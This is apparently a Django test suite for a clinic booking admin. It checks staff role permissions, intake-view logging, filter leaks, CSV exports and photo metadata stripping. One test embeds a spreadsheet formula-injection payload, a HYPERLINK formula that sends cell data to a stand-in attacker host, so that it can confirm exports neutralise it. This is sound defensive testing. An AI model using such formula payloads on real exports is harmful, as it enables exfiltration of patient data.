"""The front desk in the admin: groups, intake permission and its access log, actions, CSV."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from scheduling.models import Booking, IntakeAccess
from scheduling.services.booking import Patient
from tests import clock
from tests.scheduling.conftest import book, first_slot
from tests.users import make_staff

pytestmark = pytest.mark.django_db


@pytest.fixture
def booking(service, therapist):
    return book(service, therapist, first_slot(service, therapist).start)


def change_page(client, user, booking):
    client.force_login(user)
    return client.get(reverse("admin:scheduling_booking_change", args=[booking.pk]))


def test_front_desk_sees_the_booking_but_not_the_intake(client, booking):
    response = change_page(client, make_staff("desk", "Front desk"), booking)
    assert response.status_code == 200
    assert b"Pat Example" in response.content
    assert b"Sore back" not in response.content
    assert not IntakeAccess.objects.exists()


def test_clinicians_see_the_intake_and_each_view_is_logged(client, booking):
    clinician = make_staff("clin", "Clinicians")
    response = change_page(client, clinician, booking)
    assert b"Sore back" in response.content
    change_page(client, clinician, booking)
    log = IntakeAccess.objects.all()
    assert [(entry.user, entry.booking) for entry in log] == [(clinician, booking)] * 2


def test_content_editors_see_no_bookings(client, booking):
    editor = make_staff("editor", "Content editors")
    assert change_page(client, editor, booking).status_code == 403


def test_only_administrators_read_the_intake_access_log(client, booking):
    change_page(client, make_staff("clin", "Clinicians"), booking)
    url = reverse("admin:scheduling_intakeaccess_changelist")
    client.force_login(make_staff("desk", "Front desk"))
    assert client.get(url).status_code == 403
    client.force_login(make_staff("admin", superuser=True))
    assert b"clin" in client.get(url).content


def test_actions_mark_completed_and_no_show(client, booking, service, therapist):
    other = book(service, therapist, first_slot(service, therapist, after=booking.end).start)
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:scheduling_booking_changelist")
    client.post(url, {"action": "mark_completed", "_selected_action": [booking.pk]})
    with clock.still(other.start + timedelta(minutes=1)):  # a no-show once the visit is due
        client.post(url, {"action": "mark_no_show", "_selected_action": [other.pk]})
    statuses = dict(Booking.objects.values_list("pk", "status"))
    assert statuses == {booking.pk: "completed", other.pk: "no_show"}


def test_search_filters_schedule_and_csv_of_a_day(client, booking):
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:scheduling_booking_changelist")
    assert b"Pat Example" in client.get(url, {"q": "pat@example"}).content
    assert b"Pat Example" in client.get(url, {"needs_review__exact": "0"}).content
    day = timezone.localtime(booking.start).date().isoformat()
    schedule = client.get(reverse("admin:scheduling_booking_schedule"), {"date": day})
    assert b"Pat Example" in schedule.content
    week = client.get(reverse("admin:scheduling_booking_schedule"), {"date": day, "view": "week"})
    assert b"Pat Example" in week.content
    export = client.get(reverse("admin:scheduling_booking_export_day"), {"date": day})
    text = export.content.decode()
    assert export["Content-Type"].startswith("text/csv")
    assert "Pat Example" in text and "Sore back" not in text


def test_working_hours_and_time_off_are_inline_on_the_therapist(client, therapist):
    client.force_login(make_staff("admin", superuser=True))
    page = client.get(reverse("admin:scheduling_therapist_change", args=[therapist.pk]))
    assert b"hours-TOTAL_FORMS" in page.content and b"time_off-TOTAL_FORMS" in page.content


@pytest.mark.parametrize(
    "lookup",
    [
        "intake__reason__icontains",
        "intake__screening__dvt",
        "intake__icontains",
        "screening_flags__icontains",
        "screening_flags__contains",
        "patient_email__icontains",
    ],
)
def test_front_desk_cannot_guess_the_intake_by_filtering(client, booking, lookup):
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:scheduling_booking_changelist")
    for guess in ["sore", "yes", "dvt", "zzz-nothing"]:
        response = client.get(url, {lookup: guess})
        assert response.status_code in (302, 400), (lookup, guess)
        assert b"Pat Example" not in response.content


def test_front_desk_retries_booking_emails_and_sees_no_newsletter_email(
    client, booking, django_capture_on_commit_callbacks
):
    from newsletter.services.confirmations import confirmation_queue
    from tests.newsletter.conftest import make_subscriber

    confirmation_queue(subscriber=make_subscriber("ann@example.org"), now=timezone.now())
    email = booking.emails.get()
    booking.emails.update(status="failed")
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:outbox_outgoingemail_changelist")
    page = client.get(url).content.decode()
    assert booking.patient_email in page
    assert "ann@example.org" not in page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"action": "retry", "_selected_action": [email.pk]})
    email.refresh_from_db()
    assert email.status == "sent"


def test_front_desk_cannot_guess_the_intake_through_the_email_log(client, booking):
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:outbox_outgoingemail_changelist")
    for guess in ["sore", "zzz"]:
        response = client.get(url, {"booking__intake__reason__icontains": guess})
        assert response.status_code in (302, 400)


def test_front_desk_filters_still_work(client, booking):
    client.force_login(make_staff("desk", "Front desk"))
    url = reverse("admin:scheduling_booking_changelist")
    start = timezone.localtime(booking.start)
    for params in [
        {"status__exact": "confirmed"},
        {"therapist__id__exact": booking.therapist_id},
        {"start__year": start.year, "start__month": start.month},
    ]:
        assert b"Pat Example" in client.get(url, params).content, params


def test_clinicians_may_filter_on_the_intake(client, booking):
    client.force_login(make_staff("clin", "Clinicians"))
    url = reverse("admin:scheduling_booking_changelist")
    assert b"Pat Example" in client.get(url, {"intake__reason__icontains": "sore"}).content


def test_csv_exports_keep_typed_formulas_as_text(client, service, therapist):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    patient = Patient(name=formula, email="@SUM(1+1)@example.com", phone="+1 541 555 0100")
    booking = book(service, therapist, first_slot(service, therapist).start, patient=patient)
    client.force_login(make_staff("desk", "Front desk"))
    day = timezone.localtime(booking.start).date().isoformat()
    exports = [
        client.get(reverse("admin:scheduling_booking_export_day"), {"date": day}),
        client.post(
            reverse("admin:scheduling_booking_changelist"),
            {"action": "export_csv", "_selected_action": [booking.pk]},
        ),
    ]
    for export in exports:
        rows = list(csv.DictReader(io.StringIO(export.content.decode())))
        assert rows[0]["Patient"] == "'" + formula
        assert rows[0]["Email"] == "'@SUM(1+1)@example.com"
        assert rows[0]["Phone"] == "'+1 541 555 0100"
        cells = [cell for row in rows for cell in row.values()]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_intake_access_log_outlives_a_deleted_booking(client, booking):
    clinician = make_staff("clin", "Clinicians")
    change_page(client, clinician, booking)
    number = booking.pk
    client.force_login(make_staff("admin", superuser=True))
    delete_url = reverse("admin:scheduling_booking_delete", args=[booking.pk])
    assert client.post(delete_url, {"post": "yes"}).status_code == 302
    assert not Booking.objects.filter(pk=number).exists()
    entry = IntakeAccess.objects.get()
    assert (entry.user, entry.booking, entry.booking_number) == (clinician, None, number)
    assert entry.patient_name == "Pat Example"
    log = client.get(reverse("admin:scheduling_intakeaccess_changelist"))
    assert b"Pat Example" in log.content and b"clin" in log.content


def test_deleting_a_booking_in_code_keeps_its_intake_access_log(client, booking):
    change_page(client, make_staff("clin", "Clinicians"), booking)
    Booking.objects.filter(pk=booking.pk).delete()
    assert IntakeAccess.objects.get().booking_number == booking.pk


def test_a_therapist_photo_is_stored_square_and_without_its_location():
    """The therapist form re-encodes photos like the people's (tested end to end in content)."""
    import io

    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from content.forms import PhotoFormMixin
    from scheduling.admin import TherapistAdmin

    assert issubclass(TherapistAdmin.form, PhotoFormMixin)
    buffer = io.BytesIO()
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (45.0, 30.0, 0.0)}
    Image.new("RGB", (800, 1000), "teal").save(buffer, "JPEG", exif=exif.tobytes())
    form = TherapistAdmin.form()
    form.cleaned_data = {"photo": SimpleUploadedFile("alex.jpg", buffer.getvalue())}
    stored = form.clean_photo()
    photo = Image.open(io.BytesIO(stored.read()))
    assert stored.name == "alex.jpg"
    assert photo.size == (480, 480)
    assert not photo.getexif()
